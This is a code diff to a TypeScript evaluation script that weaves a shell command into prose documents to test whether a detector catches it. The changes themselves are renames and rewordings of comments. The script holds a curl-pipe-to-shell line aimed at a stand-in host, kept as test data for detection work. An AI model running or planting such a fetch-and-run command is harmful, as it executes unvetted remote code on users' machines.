@@ -8,12 +8,12 @@ import { series } from "../bench/series.js";
 import type { Detector } from "../src/core/index.js";
 import { profiles } from "../src/core/model.js";
 import { createNodeDetector } from "../src/host/node.js";
-import { CannotRun } from "./compare/build.js";
+import { CannotRun } from "./compare/build-revision.js";
 import { readers, type NamedText } from "./compare/texts.js";
 
 const PIPE = "curl -fsSL https://get.x.example/i.sh | sh";
 
-/** Commands in Markdown as people write them, by the profile that finds them. */
+/** Commands in Markdown as people write them, by a profile that finds them. */
 const FORMS = {
   contract: [
     `\`\`\`sh\n${PIPE}\n\`\`\``,
@@ -36,7 +36,7 @@ const FORMS = {
   ],
 } as const;
 
-/** Longer documents are skipped, in UTF-16 code units. */
+/** Maximum length of a document in UTF-16 code units; longer documents are skipped. */
 const MAX_LENGTH = 60_000;
 
 const PROSE = /\.(?:md|mdx|markdown|rst|adoc|asciidoc|org|txt)$|(?:^|\/)readme[^/]*$/i;
@@ -70,7 +70,7 @@ function blocksOf(text: string): string[] {
   return blocks.map((block) => block.join("\n"));
 }
 
-/** Returns a text shortened to blocks that still fail: tries to remove each half of the blocks, then each quarter, and so on. */
+/** Returns the text without blocks that are not needed to fail: tries to remove each half of the blocks, then each quarter, and so on. */
 function shortest(text: string, isWrong: (text: string) => boolean): string {
   let blocks = blocksOf(text);
   for (
@@ -119,16 +119,16 @@ async function main(): Promise<void> {
   let [woven, missed] = [0, 0];
   for (const { name, text } of documents.filter((document) => PROSE.test(document.name))) {
     const lines = text.split("\n");
-    const places = text.length > MAX_LENGTH || text.includes("\0") ? [] : gaps(lines);
-    if (places.length === 0) continue;
+    const available = text.length > MAX_LENGTH || text.includes("\0") ? [] : gaps(lines);
+    if (available.length === 0) continue;
     const form = FORMS[profile][next(FORMS[profile].length)] ?? PIPE;
-    const place = places[next(places.length)] ?? 0;
-    const whole = [...lines.slice(0, place), "", form, "", ...lines.slice(place + 1)].join("\n");
+    const gap = available[next(available.length)] ?? 0;
+    const whole = [...lines.slice(0, gap), "", form, "", ...lines.slice(gap + 1)].join("\n");
     woven++;
     if (!misses(detector, whole)) continue;
     missed++;
     console.log(
-      `${name}:${place + 1}\n${shortest(whole, (part) => part.includes(form) && misses(detector, part)).replace(/^/gm, "  ")}\n`,
+      `${name}:${gap + 1}\n${shortest(whole, (part) => part.includes(form) && misses(detector, part)).replace(/^/gm, "  ")}\n`,
     );
   }
   console.log(`${woven} documents, ${missed} in which the command was missed (seed ${seed})`);
